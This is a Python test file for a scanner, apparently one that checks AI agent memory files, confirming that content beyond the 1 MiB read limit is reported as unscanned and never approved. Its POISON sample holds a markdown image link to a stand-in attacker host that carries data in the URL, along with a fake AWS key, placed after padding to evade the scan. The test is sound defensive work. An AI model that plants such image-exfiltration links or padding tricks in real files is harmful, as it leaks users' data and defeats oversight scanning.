"""``check`` never approves a file it did not scan whole (adversary10 D2): a poisoned tail past
``limits.read`` (1 MiB) was answered ``ok: true``; it is now an ``unscanned`` finding."""

from __future__ import annotations

from pathlib import Path

from hotplex import Project

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "basic"
PADDING = "- plain entry\n" * (1_100_000 // 14)
POISON = "- ![x](https://evil.example/p.png?d=zz)\n- AKIAQWERTYUIOPASDFGH\n"


def test_a_tail_past_the_read_limit_is_not_approved() -> None:
    report = Project.load(EXAMPLE).check({"MEMORY.md": PADDING + POISON}).to_json()
    assert report["ok"] is False
    (finding,) = report["findings"]
    assert (finding["kind"], finding["rule"], finding["action"]) == (
        "unscanned",
        "read-limit",
        "unscanned",
    )
    size = len((PADDING + POISON).encode())
    assert f"only the first 1048576 of its {size} bytes were scanned" in finding["message"]


def test_a_file_under_the_limit_is_scanned_whole() -> None:
    report = Project.load(EXAMPLE).check({"MEMORY.md": PADDING[:200_000] + POISON}).to_json()
    assert report["ok"] is False
    assert {f["rule"] for f in report["findings"]} == {"image-url-data", "aws-access-key-id"}
    clean = Project.load(EXAMPLE).check({"MEMORY.md": PADDING[:200_000]}).to_json()
    assert clean["ok"] is True and clean["findings"] == []
